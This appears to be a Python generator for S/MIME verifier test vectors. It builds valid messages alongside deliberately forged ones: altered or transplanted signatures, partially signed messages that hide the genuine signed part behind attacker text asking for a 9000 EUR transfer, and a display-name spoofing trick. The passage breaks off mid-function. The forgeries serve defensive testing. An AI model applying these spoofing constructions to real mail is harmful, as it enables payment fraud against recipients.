#!/usr/bin/env python3
"""Builds the S/MIME test messages and expected.json (called by make-vectors.sh).

    gen_vectors.py PKI_DIR OUTDIR

The cryptography always comes from a real tool: `openssl cms`/`openssl smime`, NSS `cmsutil`, or
`gpgsm`. Python only assembles MIME around the tools' DER output (mime.py) and, for the attack
vectors, edits the DER afterwards (der.py). Every vector is one call of `self.save(...)` with its
expected verdict in the terms of docs/INSPECT.md.
"""
import datetime
import hashlib
import json
import os
import quopri
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

sys.dont_write_bytecode = True  # keep the source tree free of __pycache__
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import der  # noqa: E402
import mime  # noqa: E402

AT = "2027-01-01T00:00:00Z"  # the tests judge certificates at this fixed time
NOW = datetime.datetime.now(datetime.timezone.utc).replace(microsecond=0)
OMIT = object()  # an expectation field the tests should not check

MICALG = {"sha1": "sha-1", "sha256": "sha-256", "sha384": "sha-384", "sha512": "sha-512"}

ALICE = "Alice <alice@example.org>"
BOB = "Bob Example <bob@example.org>"


class Generator:
    def __init__(self, pki_dir, out_dir):
        self.pki = Path(pki_dir).resolve()
        self.out = Path(out_dir).resolve()
        self.info = json.loads((self.pki / "pki.json").read_text())
        self.password = (self.pki / self.info["password_file"]).read_text()
        self.tmp = Path(tempfile.mkdtemp(prefix="smc-vectors-"))
        self.expected = []
        self.seq = 0
        self.nssdb = None
        self.gnupghome = None

    # --- running tools ------------------------------------------------------------------------

    def run(self, cmd, data=None, env=None, pass_fds=()):
        r = subprocess.run([str(c) for c in cmd], input=data, capture_output=True,
                           env=env, pass_fds=pass_fds)
        if r.returncode != 0:
            raise RuntimeError(f"{' '.join(map(str, cmd))} failed ({r.returncode}):\n{r.stderr.decode(errors='replace')}")
        return r.stdout

    def tmpfile(self, name, data):
        p = self.tmp / name
        p.write_bytes(data)
        return p

    def cert(self, who):
        return self.pki / "users" / f"{who}.pem"

    def key(self, who):
        return self.pki / "users" / f"{who}.key"

    def certfile_args(self, who):
        """The CA certificates a sender would include: the issuing CA, never the root (a verifier
        must find that in its own trust store). For trudy nothing: her CA is unknown."""
        issuer = self.info["identities"][who]["issuer"]
        ca = {"intermediate": "intermediate.pem", "globalsign-ps1": "globalsign-ps1.pem"}.get(issuer)
        return ["-certfile", self.pki / ca] if ca else []

    def sign(self, content, signer="alice", md="sha256", detached=True, extra=(), cosigners=(),
             tool="cms", smime_output=False):
        """openssl cms -sign (or `openssl smime` for PKCS#7 with the old x-pkcs7 MIME types).

        Returns DER, or with smime_output=True openssl's own S/MIME text (CRLF-fixed)."""
        cmd = ["openssl", tool, "-sign", "-binary", "-md", md,
               "-signer", self.cert(signer), "-inkey", self.key(signer)]
        for co in cosigners:
            cmd += ["-signer", self.cert(co), "-inkey", self.key(co)]
        cmd += self.certfile_args(signer) if "-nocerts" not in extra else []
        if not detached:
            cmd.append("-nodetach")
        cmd += ["-crlfeol"] if smime_output else ["-outform", "DER"]
        cmd += list(extra)
        out = self.run(cmd, content)
        return mime.to_crlf(out) if smime_output else out

    def encrypt(self, content, recipients=("alice",), cipher="aes-256-cbc", oaep=False):
        """openssl cms -encrypt; EnvelopedData, or AuthEnvelopedData for GCM."""
        cmd = ["openssl", "cms", "-encrypt", "-binary", "-outform", "DER", f"-{cipher}"]
        for r in recipients:
            cmd += ["-recip", self.cert(r)]
            if oaep:
                cmd += ["-keyopt", "rsa_padding_mode:oaep"]
        return self.run(cmd, content)

    # --- NSS and gpgsm setups ------------------------------------------------------------------

    def nss(self):
        """An NSS database holding alice's key (from her AES/PBES2 .p12) and trusting the root."""
        if self.nssdb is None:
            db = self.tmp / "nssdb"
            db.mkdir()
            self.run(["certutil", "-N", "-d", f"sql:{db}", "--empty-password"])
            self.run(["certutil", "-A", "-d", f"sql:{db}", "-n", "test-root", "-t", "C,C,C", "-i", self.pki / "root.pem"])
            self.run(["pk12util", "-i", self.pki / "users/alice.p12", "-d", f"sql:{db}", "-W", self.password, "-K", ""])
            self.nssdb = f"sql:{db}"
        return self.nssdb

    def gpgsm(self, *args, data_file=None):
        """Run gpgsm in a private home with alice's key (imported from the 3DES .p12, since
        gpgsm 2.2.40 cannot read PBES2 ones) and the root trusted."""
        if self.gnupghome is None:
            home = Path(tempfile.mkdtemp(prefix="smc-gpgsm-"))  # short path: the agent socket lives here
            (home / "gpgsm.conf").write_text("disable-crl-checks\n")
            (home / "gpg-agent.conf").write_text("allow-loopback-pinentry\n")
            self.gnupghome = home
            self._gpgsm("--import", self.pki / "root.pem")
            fpr = self.run(["openssl", "x509", "-in", self.pki / "root.pem", "-noout", "-fingerprint", "-sha1"])
            (home / "trustlist.txt").write_text(fpr.decode().split("=", 1)[1].strip() + " S relax\n")
            self._gpgsm("--import", self.pki / "users/alice-3des.p12")
        return self._gpgsm(*args)

    def _gpgsm(self, *args):
        env = dict(os.environ, GNUPGHOME=str(self.gnupghome))
        r, w = os.pipe()
        os.write(w, self.password.encode() + b"\n")
        os.close(w)
        try:
            return self.run(["gpgsm", "--batch", "--pinentry-mode", "loopback", "--passphrase-fd", str(r), *args],
                            env=env, pass_fds=(r,))
        finally:
            os.close(r)

    def cleanup(self):
        if self.gnupghome is not None:
            # Stop the gpg-agent this run started (only the one serving this home directory).
            subprocess.run(["gpgconf", "--kill", "all"], env=dict(os.environ, GNUPGHOME=str(self.gnupghome)),
                           capture_output=True)
            shutil.rmtree(self.gnupghome, ignore_errors=True)
        shutil.rmtree(self.tmp, ignore_errors=True)

    # --- MIME --------------------------------------------------------------------------------------

    def boundary(self, tag=""):
        self.seq += 1
        return f"----=_smc_{self.seq:03d}{tag}_{hashlib.sha1(str(self.seq).encode()).hexdigest()[:12]}"

    def body(self, name, amount="100"):
        return (f"Hello Bob,\n\nthis is S/MIME test vector \"{name}\".\n"
                f"Please transfer {amount} EUR to account 12345.\n\nAlice\n")

    def text(self, name, amount="100"):
        return mime.text_part(self.body(name, amount))

    def signed(self, content, signer="alice", md="sha256", **kw):
        """A multipart/signed entity over `content` (detached openssl signature)."""
        sig = self.sign(content, signer, md, **kw)
        return mime.multipart_signed(content, sig, MICALG[md], self.boundary("s"))

    def opaque(self, content, signer="alice", md="sha256", **kw):
        return mime.pkcs7_mime(self.sign(content, signer, md, detached=False, **kw), "signed-data")

    def enveloped(self, content, recipients=("alice",), cipher="aes-256-cbc", **kw):
        env = self.encrypt(content, recipients, cipher, **kw)
        return mime.pkcs7_mime(env, "authEnveloped-data" if "gcm" in cipher else "enveloped-data"), env

    # --- output ------------------------------------------------------------------------------------

    def save(self, file, entity, description, sig, *, frm=ALICE, to=BOB, date=NOW, extra_headers=(),
             subject=None, lf=False, warnings=(), enc="none", enc_warnings=(), covered_part=None,
             signer=OMIT, failure=None, authenticated=None, content_cipher=None, reason=OMIT,
             ca=("root.pem",), crl=(), p12=(), signer_validation=OMIT):
        """Write OUTDIR/file as a whole message and record its expected verdict.

        frm: a string, a list (several From header fields) or None (no From field).
        date: a datetime, or None for no Date field."""
        headers = []
        for f in ([frm] if isinstance(frm, str) else (frm or [])):
            headers.append(f"From: {f}" if f else "From:")
        headers.append(f"To: {to}")
        headers.append(f"Subject: {subject or 'S/MIME test vector ' + file[:-4]}")
        if date is not None:
            headers.append(f"Date: {mime.rfc5322_date(date)}")
        headers.append(f"Message-ID: <{file[:-4]}.{int(NOW.timestamp())}@vectors.smime-companion.test>")
        headers += list(extra_headers)
        msg = mime.message(entity, headers)
        if lf:
            msg = mime.to_lf(msg)
        (self.out / file).write_bytes(msg)

        expect = {"signature_state": sig}
        if reason is not OMIT:
            expect["reason"] = reason
        expect["warnings"] = list(warnings)
        expect["encryption_state"] = enc
        expect["encryption_warnings"] = list(enc_warnings)
        expect["covered_part"] = covered_part
        if signer is not OMIT:
            expect["signer_email"] = signer
        if signer_validation is not OMIT:
            expect["signer_validation"] = signer_validation
        for k, v in (("failure", failure), ("authenticated", authenticated), ("content_cipher", content_cipher)):
            if v is not OMIT:
                expect[k] = v
        self.expected.append({"file": file, "description": description, "at": AT, "ca": list(ca),
                              "crl": list(crl), "p12": list(p12), "expect": expect})

    # ================================================================================================
    # The vectors
    # ================================================================================================

    def valid_signatures(self):
        # openssl's own S/MIME writer, unchanged apart from the RFC 5322 header fields on top.
        c = self.text("openssl-detached-sha256")
        self.save("openssl-detached-sha256.eml", self.sign(c, smime_output=True),
                  "alice, openssl cms detached multipart/signed, SHA-256, as openssl's S/MIME writer formats it",
                  "valid", signer="alice@example.org")
        c = self.text("openssl-opaque-sha256")
        self.save("openssl-opaque-sha256.eml", self.sign(c, detached=False, smime_output=True),
                  "alice, openssl cms -nodetach: opaque application/pkcs7-mime; smime-type=signed-data",
                  "valid", signer="alice@example.org")
        # Old (pre-RFC 5751) x-pkcs7 types, as `openssl smime` (PKCS#7) still writes them.
        c = self.text("openssl-detached-x-pkcs7-signature")
        self.save("openssl-detached-x-pkcs7-signature.eml", self.sign(c, tool="smime", smime_output=True),
                  "alice, openssl smime (PKCS#7) detached: protocol and part type application/x-pkcs7-signature",
                  "valid", signer="alice@example.org")
        c = self.text("openssl-opaque-x-pkcs7-mime")
        self.save("openssl-opaque-x-pkcs7-mime.eml", self.sign(c, tool="smime", detached=False, smime_output=True),
                  "alice, openssl smime (PKCS#7) opaque: application/x-pkcs7-mime; smime-type=signed-data",
                  "valid", signer="alice@example.org")

        for md in ("sha384", "sha512"):
            name = f"openssl-detached-{md}"
            self.save(f"{name}.eml", self.signed(self.text(name), md=md),
                      f"alice, detached, digest {md.upper()}", "valid", signer="alice@example.org")

        people = [
            ("openssl-detached-ecdsa-p256-judy", "judy", "sha256", "Judy Example <judy@example.org>",
             "judy (EC P-256), ECDSA with SHA-256", {}),
            ("openssl-detached-ecdsa-p384-ken", "ken", "sha384", "Ken Example <ken@example.org>",
             "ken (EC P-384), ECDSA with SHA-384", {}),
            ("openssl-detached-rsa4096-dave", "dave", "sha256", "Dave Sponsor <dave@example.com>",
             "dave (RSA 4096, sponsor-validated strict 2.23.140.1.5.3.3)",
             {"signer_validation": {"type": "sponsor", "generation": "strict", "source": "cabf_smime_br"}}),
            ("openssl-detached-carol-organization", "carol", "sha256", "Example Corp <carol@example.com>",
             "carol (organization-validated multipurpose 2.23.140.1.5.2.2)",
             {"signer_validation": {"type": "organization", "generation": "multipurpose", "source": "cabf_smime_br"}}),
            ("openssl-detached-bob-individual", "bob", "sha256", BOB,
             "bob (individual-validated multipurpose 2.23.140.1.5.4.2)",
             {"signer_validation": {"type": "individual", "generation": "multipurpose", "source": "cabf_smime_br"}}),
            ("openssl-detached-gsalice-globalsign", "gsalice", "sha256", "gs@example.org",
             "gsalice: only GlobalSign's 1.3.6.1.4.1.4146.1.40 policy, issued by (a test copy of) "
             "'GlobalSign PersonalSign 1 CA - SHA256 - G3' (included in the message): mailbox-validated",
             {"signer_validation": {"type": "mailbox", "source": "globalsign_personalsign"}}),
            ("openssl-detached-erin-subject-email", "erin", "sha256", "Erin Example <erin@example.org>",
             "erin: the address is only in the subject emailAddress (no subjectAltName)", {}),
            ("openssl-detached-alice2-renewed", "alice2", "sha256", ALICE,
             "alice2: alice's renewed certificate (same subject, new key, 2026-2038)", {}),
            ("openssl-detached-heidi-no-eku", "heidi", "sha256", "Heidi Example <heidi@example.org>",
             "heidi: no extendedKeyUsage extension at all, which allows e-mail protection (RFC 8550)", {}),
        ]
        for name, who, md, frm, desc, extra in people:
            email = self.info["identities"][who]["email"]
            self.save(f"{name}.eml", self.signed(self.text(name), who, md), desc, "valid",
                      frm=frm, signer=email, **extra)

        name = "openssl-detached-alice-mailbox"
        self.save(f"{name}.eml", self.signed(self.text(name)),
                  "alice (mailbox-validated strict 2.23.140.1.5.1.3)", "valid", signer="alice@example.org",
                  signer_validation={"type": "mailbox", "generation": "strict", "source": "cabf_smime_br"})

        # The same kind of message stored with LF line ends (as on a Unix mbox); the verifier must
        # canonicalise the signed part to CRLF before hashing.
        name = "openssl-detached-lf-line-endings"
        self.save(f"{name}.eml", self.signed(self.text(name)),
                  "alice, detached; the whole file uses LF line ends (signed over the CRLF form)",
                  "valid", signer="alice@example.org", lf=True)

        # Signed part in quoted-printable, carrying UTF-8 text (with a soft line break).
        text = ("Grüße aus Köln!\nDer Betrag: 100 € (hundert Euro) für die Überweisung.\n"
                "Eine sehr lange Zeile, die länger als sechsundsiebzig Zeichen ist, damit quoted-printable "
                "einen weichen Zeilenumbruch einfügen muss.\n")
        qp = mime.to_crlf(quopri.encodestring(text.encode("utf-8")))
        c = mime.entity(["Content-Type: text/plain; charset=utf-8", "Content-Transfer-Encoding: quoted-printable"], qp)
        self.save("openssl-detached-quoted-printable-utf8.eml", self.signed(c),
                  "alice, detached; the signed part is quoted-printable UTF-8 text (Grüße, €)",
                  "valid", signer="alice@example.org", subject="=?UTF-8?Q?Gr=C3=BC=C3=9Fe?=")
        c = mime.entity(["Content-Type: text/plain; charset=utf-8", "Content-Transfer-Encoding: 8bit"],
                        mime.to_crlf(text.encode("utf-8")))
        self.save("openssl-detached-8bit-utf8.eml", self.signed(c),
                  "alice, detached; the signed part is raw 8bit UTF-8 text", "valid", signer="alice@example.org")

        # A multipart signed content with an attachment, signed as a whole.
        name = "openssl-detached-multipart-content"
        inner = mime.multipart("mixed", [
            self.text(name),
            mime.entity(['Content-Type: application/pdf; name="invoice.pdf"', "Content-Transfer-Encoding: base64",
                         'Content-Disposition: attachment; filename="invoice.pdf"'],
                        mime.b64_lines(b"%PDF-1.4\n% not really a PDF\n" * 20)),
        ], self.boundary("m"))
        self.save(f"{name}.eml", self.signed(inner),
                  "alice, detached; the signed content is multipart/mixed with an attachment",
                  "valid", signer="alice@example.org")

    def interop_nss(self):
        db = self.nss()
        name = "nss-cmsutil-detached-sha256"
        c = self.text(name)
        self.run(["cmsutil", "-S", "-T", "-G", "-P", "-Y", "alice", "-H", "SHA256", "-N", "alice",
                  "-d", db, "-p", "", "-o", self.tmp / "nss.sig", "-i", self.tmpfile("nss.in", c)])
        sig = (self.tmp / "nss.sig").read_bytes()
        self.save(f"{name}.eml", mime.multipart_signed(c, sig, "sha-256", self.boundary("n")),
                  "alice, NSS cmsutil -S -T (detached, signingTime, SMIMECapabilities, encryption key "
                  "preference), wrapped in multipart/signed", "valid", signer="alice@example.org")

        name = "nss-cmsutil-opaque-sha256"
        c = self.text(name)
        self.run(["cmsutil", "-S", "-G", "-P", "-H", "SHA256", "-N", "alice", "-d", db, "-p", "",
                  "-o", self.tmp / "nss.p7m", "-i", self.tmpfile("nss.in", c)])
        self.save(f"{name}.eml", mime.pkcs7_mime((self.tmp / "nss.p7m").read_bytes(), "signed-data"),
                  "alice, NSS cmsutil -S (opaque signed-data)", "valid", signer="alice@example.org")

        name = "nss-cmsutil-enveloped"
        c = self.text(name)
        self.run(["cmsutil", "-E", "-r", "alice@example.org", "-d", db, "-p", "",
                  "-o", self.tmp / "nss.env", "-i", self.tmpfile("nss.in", c)])
        env = (self.tmp / "nss.env").read_bytes()
        self.save(f"{name}.eml", mime.pkcs7_mime(env, "enveloped-data"),
                  f"encrypted to alice by NSS cmsutil -E (RSA PKCS#1 v1.5, {der.content_cipher(env)}), unsigned",
                  "none", warnings=["encrypted_but_unsigned"], enc="decrypted", p12=["alice"],
                  authenticated=False, content_cipher=der.content_cipher(env))

        name = "nss-cmsutil-certs-only"
        self.run(["cmsutil", "-O", "-r", "alice", "-d", db, "-p", "", "-o", self.tmp / "nss.p7c"])
        self.save(f"{name}.eml", mime.pkcs7_mime((self.tmp / "nss.p7c").read_bytes(), "certs-only", name="smime.p7c"),
                  "a certs-only message (application/pkcs7-mime; smime-type=certs-only) made by cmsutil -O: "
                  "carries certificates, signs nothing", "none", signer=None)

    def interop_gpgsm(self):
        name = "gpgsm-detached-sha256"
        c = self.text(name)
        src = self.tmpfile("gpgsm.in", c)
        out = self.tmp / "gpgsm.sig"
        self.gpgsm("--include-certs", "-1", "-u", "alice@example.org", "--detach-sign", "-o", out, src)
        self.save(f"{name}.eml", mime.multipart_signed(c, out.read_bytes(), "sha-256", self.boundary("g")),
                  "alice, gpgsm --detach-sign --include-certs -1, wrapped in multipart/signed",
                  "valid", signer="alice@example.org")

        name = "gpgsm-enveloped"
        c = self.text(name)
        src = self.tmpfile("gpgsm.in", c)
        out = self.tmp / "gpgsm.env"
        self.gpgsm("-r", "alice@example.org", "--encrypt", "-o", out, src)
        env = out.read_bytes()
        self.save(f"{name}.eml", mime.pkcs7_mime(env, "enveloped-data"),
                  f"encrypted to alice by gpgsm --encrypt ({der.content_cipher(env)}), unsigned", "none",
                  warnings=["encrypted_but_unsigned"], enc="decrypted", p12=["alice"],
                  authenticated=False, content_cipher=der.content_cipher(env))

    def content_altered(self):
        name = "altered-detached-text"
        c = self.text(name)
        sig = self.sign(c)
        self.save(f"{name}.eml", mime.multipart_signed(self.text(name, amount="900"), sig, "sha-256", self.boundary("a")),
                  "alice, detached; after signing '100 EUR' was changed to '900 EUR'", "content_altered")

        name = "altered-opaque-econtent"
        sd = self.sign(self.text(name), detached=False)
        assert sd.count(b"100 EUR") == 1
        self.save(f"{name}.eml", mime.pkcs7_mime(sd.replace(b"100 EUR", b"900 EUR"), "signed-data"),
                  "alice, opaque signed-data; one eContent byte changed ('100 EUR' → '900 EUR')", "content_altered")

        # Johnny C2: a valid signer plus one transplanted from a signature over other content.
        name = "multi-signers-transplanted"
        c = self.text(name)
        mixed = der.transplant_signers(self.sign(c), self.sign(self.text(name, amount="5"), "bob"))
        self.save(f"{name}.eml", mime.multipart_signed(c, mixed, "sha-256", self.boundary("t")),
                  "two SignerInfos: alice's (valid) and bob's, transplanted from a signature over other text",
                  "content_altered", warnings=["multiple_signers"])

    def weak_and_unsupported(self):
        name = "weak-sha1-digest"
        self.save(f"{name}.eml", self.signed(self.text(name), md="sha1"),
                  "alice, detached, openssl cms -md sha1", "weak_algorithm", reason="sha1", signer="alice@example.org")
        name = "weak-rsa1024-mallory"
        self.save(f"{name}.eml", self.signed(self.text(name), "mallory"),
                  "mallory: RSA 1024 key", "weak_algorithm", reason="small_rsa_key",
                  frm="Mallory Example <mallory@example.org>", signer="mallory@example.org")

        name = "unsupported-digest-oid"
        c = self.text(name)
        sig = self.sign(c)
        old = bytes([0x06, 0x09]) + der.OID_SHA256
        assert sig.count(old) == 2, sig.count(old)  # digestAlgorithms and the SignerInfo
        sig = sig.replace(old, old[:-1] + b"\x7f")
        self.save(f"{name}.eml", mime.multipart_signed(c, sig, "sha-256", self.boundary("u")),
                  "alice, detached; every SHA-256 OID replaced by the unknown 2.16.840.1.101.3.4.2.127",
                  "unsupported_algorithm")

    def sender(self):
        def one(name, desc, sig, **kw):
            self.save(f"{name}.eml", self.signed(self.text(name)), desc, sig, **kw)

        one("sender-mismatch-from-bob", "signed by alice, From: bob", "sender_mismatch", frm=BOB,
            reason="different_address", signer="alice@example.org")
        one("sender-mismatch-two-mailboxes", "signed by alice, From: alice, bob (two mailboxes in one field)",
            "sender_mismatch", frm=f"{ALICE}, {BOB}", reason="multiple_from", signer="alice@example.org")
        one("sender-mismatch-two-from-fields", "signed by alice, two From header fields (alice, bob)",
            "sender_mismatch", frm=[ALICE, BOB], reason="multiple_from_headers", signer="alice@example.org")
        one("sender-mismatch-empty-from", "signed by alice, an empty From field", "sender_mismatch",
            frm=[""], signer="alice@example.org")
        one("sender-mismatch-display-name-trick",
            'signed by alice, From: "alice@example.org" <eve@example.net> (the address is eve\'s)',
            "sender_mismatch", frm='"alice@example.org" <eve@example.net>', reason="different_address",
            warnings=["display_name_is_other_address"], signer="alice@example.org")
        one("sender-mismatch-no-from-no-sender", "signed by alice, neither From nor Sender", "sender_mismatch",
            frm=None, reason="no_from", signer="alice@example.org")
        one("sender-no-from-sender-alice", "signed by alice, no From field but Sender: alice (used instead)",
            "valid", frm=None, extra_headers=["Sender: alice@example.org"], signer="alice@example.org")
        one("sender-from-uppercase-domain", "signed by alice, From: alice@EXAMPLE.ORG (domains compare case-insensitively)",
            "valid", frm="Alice <alice@EXAMPLE.ORG>", signer="alice@example.org")
        one("sender-from-uppercase-local-part",
            "signed by alice, From: ALICE@example.org (local parts compare as written, RFC 5321)",
            "sender_mismatch", frm="Alice <ALICE@example.org>", reason="different_address", signer="alice@example.org")

    def certificates(self):
        def one(name, who, desc, sig, frm, **kw):
            self.save(f"{name}.eml", self.signed(self.text(name), who), desc, sig, frm=frm, **kw)

        def signed_outside(start, end):
            """The signing time (openssl cms sets the moment of signing) outside a certificate's
            validity (tests/pki/make-pki.sh) is a warning of its own."""
            utc = datetime.timezone.utc
            inside = datetime.datetime(*start, tzinfo=utc) <= NOW <= datetime.datetime(*end, tzinfo=utc)
            return [] if inside else ["signing_time_outside_validity"]

        one("no-sender-address-noaddr", "noaddr", "signer's certificate has no e-mail address at all",
            "no_sender_address", "No Address <noaddr@example.org>", signer=None)
        one("untrusted-self-signed-eve", "eve", "eve: self-signed certificate", "untrusted",
            "Eve <eve@example.net>", reason="self_signed", signer="eve@example.net")
        one("untrusted-unknown-ca-trudy", "trudy", "trudy: issued by 'Rogue Root CA', which is not trusted "
            "(and not in the message)", "untrusted", "Trudy <trudy@example.org>", reason="unknown_ca",
            signer="trudy@example.org")
        one("expired-frank", "frank", "frank: certificate valid 2020-01-01 to 2023-01-01", "expired",
            "Frank <frank@example.org>", warnings=signed_outside((2020, 1, 1), (2023, 1, 1)), signer="frank@example.org")
        one("not-yet-valid-grace", "grace", "grace: certificate valid from 2030-01-01", "not_yet_valid",
            "Grace <grace@example.org>", warnings=signed_outside((2030, 1, 1), (2040, 1, 1)), signer="grace@example.org")
        one("wrong-usage-eku-serverauth-ivan", "ivan", "ivan: extendedKeyUsage serverAuth only", "wrong_usage",
            "Ivan <ivan@example.org>", reason="extended_key_usage", signer="ivan@example.org")
        one("wrong-usage-ku-oscar", "oscar", "oscar: keyUsage keyEncipherment only (no digitalSignature)",
            "wrong_usage", "Oscar <oscar@example.org>", reason="key_usage", signer="oscar@example.org")
        rupert = "Rupert <rupert@example.org>"
        one("revoked-rupert-crl-passed", "rupert", "rupert: revoked; the issuing CA's CRL is passed to the call",
            "revoked", rupert, crl=["crl/intermediate.crl.pem"], signer="rupert@example.org")
        one("rupert-empty-crl-good", "rupert", "rupert, but the CRL passed is the CA's empty one: not revoked",
            "valid", rupert, crl=["crl/intermediate-empty.crl.pem"], signer="rupert@example.org")
        one("crl-passed-alice-not-listed", "alice", "alice, with the CRL listing only rupert: not revoked",
            "valid", ALICE, crl=["crl/intermediate.crl.pem"], signer="alice@example.org")

        name = "revoked-rupert-crl-embedded"
        c = self.text(name)
        crl = (self.pki / "crl/intermediate.crl.der").read_bytes()
        sig = der.add_crl(self.sign(c, "rupert"), crl)
        self.save(f"{name}.eml", mime.multipart_signed(c, sig, "sha-256", self.boundary("r")),
                  "rupert: revoked; the CRL travels in the SignedData crls [1] field, none is passed",
                  "revoked", frm=rupert, signer="rupert@example.org")

        name = "signer-certificate-missing"
        self.save(f"{name}.eml", self.signed(self.text(name), extra=["-nocerts"]),
                  "alice, openssl cms -nocerts: the message carries no certificate", "signer_certificate_missing")

    def times(self):
        name = "time-mismatch-date-2h-later"
        self.save(f"{name}.eml", self.signed(self.text(name)), "alice; the Date header is 2 hours after signingTime",
                  "time_mismatch", date=NOW + datetime.timedelta(hours=2), signer="alice@example.org")
        name = "time-date-30min-later"
        self.save(f"{name}.eml", self.signed(self.text(name)), "alice; the Date header is 30 minutes after "
                  "signingTime (within the 1 hour allowed)", "valid",
                  date=NOW + datetime.timedelta(minutes=30), signer="alice@example.org")
        name = "no-date-header"
        self.save(f"{name}.eml", self.signed(self.text(name)), "alice; no Date header", "valid",
                  date=None, warnings=["no_date_header"], signer="alice@example.org")

    def partial(self):
        """Johnny M1–M4: a valid signed part below an unsigned root."""
        def signed_part(name, extra_headers=()):
            c = self.text(name)
            return mime.multipart_signed(c, self.sign(c), "sha-256", self.boundary("s"), extra_headers=extra_headers)

        name = "partial-m1-prepended-text"
        ent = mime.multipart("mixed", [
            mime.text_part("URGENT: the account number below has changed to 66666. Please use the new one.\n"),
            signed_part(name)], self.boundary())
        self.save(f"{name}.eml", ent, "M1: multipart/mixed, attacker text part 1, alice's signed part 2",
                  "partially_signed", covered_part="2")

        name = "partial-m2-html-hiding"
        ent = mime.multipart("mixed", [
            mime.text_part('<html><body><p>Please transfer 9000 EUR to account 66666.</p>'
                           '<div style="display:none">\n', subtype="html"),
            signed_part(name),
            mime.text_part("</div></body></html>\n", subtype="html")], self.boundary())
        self.save(f"{name}.eml", ent, "M2: HTML parts before and after hide alice's signed part 2 "
                  "(display:none)", "partially_signed", covered_part="2")

        name = "partial-m3-related-cid"
        ent = mime.multipart("related", [
            mime.text_part('<html><body><p>Please transfer 9000 EUR.</p>'
                           '<iframe src="cid:signed-part@example.org" style="display:none"></iframe></body></html>\n',
                           subtype="html"),
            signed_part(name, extra_headers=["Content-ID: <signed-part@example.org>"])],
            self.boundary(), params='; type="text/html"')
        self.save(f"{name}.eml", ent, "M3: multipart/related; an HTML part references alice's signed part 2 "
                  "by cid:", "partially_signed", covered_part="2")

        name = "partial-m4-rfc822-attachment"
        inner_entity = signed_part(name)
        inner_msg = mime.message(inner_entity, [f"From: {ALICE}", f"To: {BOB}", "Subject: original",
                                                f"Date: {mime.rfc5322_date(NOW)}",
                                                f"Message-ID: <{name}-original@vectors.smime-companion.test>"])
        ent = mime.multipart("mixed", [
            mime.text_part("Please transfer 9000 EUR to account 66666. Alice's signed confirmation is attached.\n"),
            mime.entity(["Content-Type: message/rfc822", 'Content-Disposition: attachment; filename="confirmation.eml"'],
                        inner_msg)], self.boundary())
        self.save(f"{name}.eml", ent, "M4: alice's whole signed message attached as message/rfc822 (part 2) "
                  "under an unsigned text part", "partially_signed", covered_part="2")

        name = "partial-mailing-list-footer"
        ent = mime.multipart("mixed", [signed_part(name),
                                       mime.text_part("-- \nlist@example.org mailing list\nUnsubscribe: ...\n")],
                             self.boundary())
        self.save(f"{name}.eml", ent, "a mailing list added a footer part: alice's signed part is part 1 of "
                  "multipart/mixed", "partially_signed", covered_part="1")

        name = "partial-nested-1-2"
        alt = mime.multipart("alternative", [mime.text_part("Please transfer 9000 EUR.\n"), signed_part(name)],
                             self.boundary())
        ent = mime.multipart("mixed", [alt, mime.text_part("attachment\n", extra_headers=[
            'Content-Disposition: attachment; filename="note.txt"'])], self.boundary())
        self.save(f"{name}.eml", ent, "alice's signed part is part 1.2 (second alternative inside "
                  "multipart/mixed part 1)", "partially_signed", covered_part="1.2")

    def malformed(self):
        name = "malformed-multipart-signed-one-part"
        c = self.text(name)
        ent = mime.multipart("signed", [c], self.boundary(),
                             params='; protocol="application/pkcs7-signature"; micalg=sha-256')
        self.save(f"{name}.eml", ent, "multipart/signed with only the content part, no signature part",
                  "malformed", reason="bad_mime_structure")

        name = "malformed-signature-bad-base64"
        c = self.text(name)
        ent = mime.multipart_signed(c, None, "sha-256", self.boundary(),
                                    sig_body=b"%%%% this is not base64 at all %%%%\r\n====\r\n")
        self.save(f"{name}.eml", ent, "the signature part's body is not valid base64", "malformed",
                  reason="bad_signature_encoding")

        name = "malformed-signature-not-cms"
        c = self.text(name)
        ent = mime.multipart_signed(c, b"This is not a CMS structure, just some text.\r\n", "sha-256", self.boundary())
        self.save(f"{name}.eml", ent, "the signature part is valid base64 of plain text, not DER/CMS",
                  "malformed", reason="bad_signature_encoding")

        name = "malformed-signature-enveloped-data"
        c = self.text(name)
        ent = mime.multipart_signed(c, self.encrypt(c), "sha-256", self.boundary())
        self.save(f"{name}.eml", ent, "the signature part is a CMS EnvelopedData, not SignedData",
                  "malformed", reason="not_signed_data")

        # Johnny C1: the SignedData verifies over its own eContent, but the client shows part 1.
        name = "malformed-econtent-confusion"
        shown = self.text(name, amount="9000")
        sig = self.sign(self.text(name), detached=False)
        self.save(f"{name}.eml", mime.multipart_signed(shown, sig, "sha-256", self.boundary()),
                  "eContent confusion: multipart/signed whose SignedData also embeds (validly signed) eContent "
                  "with other text ('100 EUR' vs the displayed '9000 EUR')", "malformed",
                  reason="embedded_content_in_detached_signature")

        name = "malformed-opaque-no-content"
        sig = self.sign(self.text(name))  # detached: no eContent
        self.save(f"{name}.eml", mime.pkcs7_mime(sig, "signed-data"),
                  "opaque application/pkcs7-mime signed-data whose SignedData has no eContent", "malformed",
                  reason="missing_content")

    def signers(self):
        name = "multi-signers-alice-bob"
        self.save(f"{name}.eml", self.signed(self.text(name), cosigners=["bob"]),
                  "two cryptographically valid signers in one SignedData (alice and bob, -signer twice); "
                  "From alice, so bob's signer is a sender mismatch and the state is the worst signer's",
                  "sender_mismatch", warnings=["multiple_signers"])

        name = "no-signers-certs-only-in-multipart-signed"
        c = self.text(name)
        p7 = self.run(["openssl", "crl2pkcs7", "-nocrl", "-certfile", self.cert("alice"), "-outform", "DER"])
        self.save(f"{name}.eml", mime.multipart_signed(c, p7, "sha-256", self.boundary()),
                  "multipart/signed whose signature is a SignedData with zero SignerInfos "
                  "(openssl crl2pkcs7 -nocrl -certfile alice.pem)", "none", warnings=["no_signers"], signer=None)

        name = "no-signers-stripped"
        c = self.text(name)
        self.save(f"{name}.eml", mime.multipart_signed(c, der.strip_signers(self.sign(c)), "sha-256", self.boundary()),
                  "alice's detached SignedData with its SignerInfo removed (Johnny C3): digest algorithms and "
                  "certificates remain, no signers", "none", warnings=["no_signers"], signer=None)

        name = "certs-only-openssl"
        p7 = self.run(["openssl", "crl2pkcs7", "-nocrl", "-certfile", self.cert("bob"), "-certfile",
                       self.pki / "intermediate.pem", "-outform", "DER"])
        self.save(f"{name}.eml", mime.pkcs7_mime(p7, "certs-only", name="smime.p7c"),
